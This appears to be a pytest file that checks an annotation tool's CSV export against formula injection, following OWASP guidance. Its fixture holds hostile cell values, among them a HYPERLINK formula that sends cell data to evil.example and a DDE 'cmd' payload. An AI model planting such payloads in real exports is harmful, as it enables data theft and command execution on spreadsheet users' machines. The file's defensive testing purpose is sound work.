"""The CSV export cannot run formulas in a spreadsheet (OWASP's CSV injection rule)."""

import csv
import io

import pytest

from annotator.exports import csvfile
from annotator.models import Label, Membership, Role
from annotator.services import span_create
from corpus.models import Document

from .test_export_formats import export

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2", "@SUM(A1:A9)"]
FORMULAS += ["\tTAB", "\rCR"]


@pytest.fixture
def hostile(project, people, make_user):
    """A document whose title, external id, text, label and annotator start like formulas."""
    text = " | ".join([*FORMULAS, "plain words"])
    document = Document.objects.create(
        title=FORMULAS[0], text=text, external_id="=cmd|' /C calc'!A0"
    )
    project.documents.add(document)
    label = Label.objects.create(project=project, name="@LABEL", order=9)
    annotator = make_user("-mallory")
    Membership.objects.create(project=project, user=annotator, role=Role.ANNOTATOR)
    for needle in [*FORMULAS, "plain words"]:
        start = text.index(needle)
        span_create(
            project=project,
            document=document,
            annotator=annotator,
            label=label,
            start=start,
            end=start + len(needle),
        )
    return document


def test_every_text_cell_that_could_start_a_formula_is_prefixed(project, people, hostile):
    _, data = export(project, people["manager"], format="csv", layer="all")
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert [row["text"] for row in rows] == [f"'{text}" for text in FORMULAS] + ["plain words"]
    for row in rows:
        assert row["external_id"] == "'=cmd|' /C calc'!A0"
        assert row["label"] == "'@LABEL"
        assert row["annotator"] == "'-mallory"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # Numbers stay numbers and ordinary cells are written as they are.
    last = rows[-1]
    assert (last["document_id"], last["layer"]) == (str(hostile.pk), "annotator")
    start = hostile.text.index("plain words")
    assert (last["start"], last["end"]) == (str(start), str(start + len("plain words")))


def test_ordinary_cells_are_unchanged_and_the_card_says_so(project, people, hostile):
    for ordinary in ["plain", "1+1", "a=b", "", "café", " =leading space", "'quoted"]:
        assert csvfile.cell(ordinary) == ordinary
    run, _ = export(project, people["manager"], format="csv", layer="all")
    notes = run.card()["format_notes"]
    assert "= + - @ tab or CR" in notes and "'" in notes and "OWASP" in notes
